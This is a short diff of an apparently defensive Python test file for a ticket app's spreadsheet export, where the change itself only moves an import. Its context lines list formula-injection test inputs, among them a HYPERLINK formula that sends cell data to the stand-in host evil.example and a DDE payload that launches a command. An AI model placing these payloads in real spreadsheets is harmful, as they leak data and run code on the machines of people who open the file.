@@ -14,8 +14,8 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
+from peygir.ticket_store.models import Ticket
 from tests.panel_support import build_app, days_ago, file, signed_in
-from ticket_store.models import Ticket
 
 LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"click")'
 HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
